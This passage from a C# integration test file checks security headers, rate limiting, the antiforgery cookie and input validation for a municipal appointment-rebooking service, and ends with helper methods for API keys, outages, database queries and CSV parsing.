            ("problem 400", await admin.PostAsJsonAsync($"/api/tenants/{Velbert}/outages", new { })),
            ("problem 400 unreadable", await admin.PostAsync($"/api/tenants/{Velbert}/outages", new StringContent("{", Encoding.UTF8, "application/json"))),
            ("problem 401", await anonymous.GetAsync($"/api/tenants/{Velbert}")),
            ("problem 403", await With(velbertClerk).GetAsync($"/api/tenants/{Hattingen}/outages")),
            ("problem 404", await admin.GetAsync($"/api/tenants/{Velbert}/outages/{Guid.NewGuid()}")),
            ("not found", await anonymous.GetAsync("/no/such/route")),
            ("method not allowed", await anonymous.SendAsync(new HttpRequestMessage(HttpMethod.Delete, "/health"))),
            ("redirect", await anonymous.GetAsync("/staff")),
            ("console page", await anonymous.GetAsync("/staff/login")),
            ("citizen page", await anonymous.GetAsync($"/r/{token}")),
            ("citizen api", await anonymous.GetAsync($"/api/rebook/{token}")),
            ("status page", await anonymous.GetAsync($"/status/{Velbert}")),
            ("stylesheet", await anonymous.GetAsync("/assets/staff.css")),
            ("script", await anonymous.GetAsync("/assets/staff.js")),
            ("openapi", await anonymous.GetAsync("/openapi/v1.json")),
            ("health", await anonymous.GetAsync("/health")),
            ("csv", await clerk.GetAsync($"/staff/outages/{csvOutage}/calls.csv")),
            ("webhook 403", await anonymous.PostFormAsync("/webhooks/twilio/status", ("MessageSid", "SM1"))),
        };
        using (var flood = new PlainHttpBrowser(baseUrl, "198.51.100.91"))
        {
            HttpResponseMessage last = null!;
            for (var i = 0; i < 21; i++) last = await flood.GetAsync($"/status/{Velbert}");
            answers.Add(("429", last));
        }
        foreach (var (kind, answer) in answers)
        {
            Assert.That(answer.Headers.TryGetValues("X-Content-Type-Options", out var nosniff) ? nosniff.Single() : null, Is.EqualTo("nosniff"), kind);
            Assert.That(answer.Headers.Contains("Server"), Is.False, kind);
        }
        Assert.That(answers.Single(a => a.Kind == "429").Answer.StatusCode, Is.EqualTo(HttpStatusCode.TooManyRequests));
        var antiforgery = anonymous.SetCookies.Where(c => c.StartsWith("__Host-rebooking-antiforgery=", StringComparison.Ordinal)).ToList();
        Assert.That(antiforgery, Is.Not.Empty);
        Assert.That(antiforgery, Has.All.Contains("secure").IgnoreCase);
    }

    // ---- helpers ----

    string At(int hour, int minute = 0) => Iso(day.AddHours(hour).AddMinutes(minute));

    static string Iso(DateTime utc) => utc.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'");

    static object CsvRow(string reference, string name, string? phone) => new
    {
        externalRef = reference, officeId = "rathaus", serviceId = "personalausweis", start = $"{DateTime.UtcNow.Date.AddDays(10):yyyy-MM-dd}T06:15:00Z",
        end = $"{DateTime.UtcNow.Date.AddDays(10):yyyy-MM-dd}T06:30:00Z", name, phone, language = "de",
    };

    object Outage(string reason = "Netzstörung", string publicMessage = "Ihr Termin kann nicht stattfinden.") => new
    {
        start = At(13), end = At(14), reason, publicMessage,
    };

    static async Task<Guid> DeclareAsync(HttpClient client, string tenant, string start, string end, string[]? offices = null, bool notify = true)
    {
        var answer = await client.PostAsJsonAsync($"/api/tenants/{tenant}/outages", new
        {
            start, end, officeIds = offices ?? [], reason = "Stromausfall", publicMessage = "Ihr Termin kann nicht stattfinden.", notify,
        });
        Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.Accepted), await answer.Content.ReadAsStringAsync());
        return (await answer.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
    }

    async Task<string> KeyAsync(string role, string tenant)
    {
        var answer = await admin.PostAsJsonAsync("/api/apikeys", new { role, tenant, label = $"{role} {tenant}" });
        Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.Created));
        return (await answer.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("key").GetString()!;
    }

    HttpClient With(string key)
    {
        var client = new HttpClient { BaseAddress = new Uri(baseUrl) };
        client.DefaultRequestHeaders.Add("X-Api-Key", key);
        return client;
    }

    async Task<List<JsonElement>> OutboxAsync(string key)
    {
        var answer = await With(key).GetAsync("/api/dev/outbox");
        Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.OK));
        return (await answer.Content.ReadFromJsonAsync<JsonElement>()).EnumerateArray().ToList();
    }

    static string Token(JsonElement message) => Scenario.LinkToken(message.GetProperty("body").GetString()!);

    static async Task Refused(HttpResponseMessage answer, string field, string variant)
    {
        var body = await answer.Content.ReadAsStringAsync();
        Assert.That(answer.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest), $"{field} with {variant}: {body}");
        Assert.That(answer.Content.Headers.ContentType?.MediaType, Is.EqualTo("application/problem+json"));
        Assert.That(JsonDocument.Parse(body).RootElement.GetProperty("errors").TryGetProperty(field, out _), Is.True, $"{field} with {variant}: {body}");
    }

    async Task<string> EndOf(Guid outage) => await Scalar<string>("SELECT end_utc FROM outages WHERE id = @Id", new { Id = outage.ToString() });

    async Task<string> CountsAsync() => string.Join(",", await Task.WhenAll(
        new[] { "outages", "tenants", "api_keys", "bookings", "offices", "audit_log" }.Select(t => Scalar<long>($"SELECT COUNT(*) FROM {t}"))));

    async Task<T> Scalar<T>(string sql, object? parameters = null)
    {
        await using var connection = new SqliteConnection($"Data Source={Path.Combine(directory, "data", "rebooking.db")};Mode=ReadOnly");
        return (await connection.ExecuteScalarAsync<T>(sql, parameters))!;
    }

    /// <summary>Semicolon-separated, double-quoted where needed, as CsvHelper writes it.</summary>
    static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ';') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(cell.ToString()); cell.Clear(); rows.Add(row); row = []; i++;
            }
            else cell.Append(c);
        }
        if (cell.Length > 0 || row.Count > 0) { row.Add(cell.ToString()); rows.Add(row); }
        return rows;
    }
}
